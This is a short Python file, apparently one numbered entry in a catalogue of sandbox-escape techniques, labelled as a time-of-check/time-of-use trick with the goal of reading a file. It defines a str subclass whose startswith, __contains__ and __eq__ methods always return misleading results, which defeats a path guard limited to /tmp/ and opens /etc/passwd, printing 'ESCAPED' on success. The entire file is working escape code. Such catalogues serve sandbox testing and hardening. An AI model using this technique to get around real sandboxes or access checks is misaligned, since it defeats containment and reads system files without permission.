# escape: 145
# technique: str subclass overrides startswith/__eq__/__contains__; C code uses the real buffer
# family: toctou
# goal: read-file
# first-seen: tav safelite; pysandbox
class S(str):
    def startswith(s, *a): return True
    __contains__ = lambda s, x: False
    def __eq__(s, o): return True
    __hash__ = str.__hash__
def guarded(p):
    if not p.startswith('/tmp/') or '..' in p: raise PermissionError
    return open(p)
if 'root:' in guarded(S('/etc/passwd')).readline(): print('ESCAPED:str subclass')
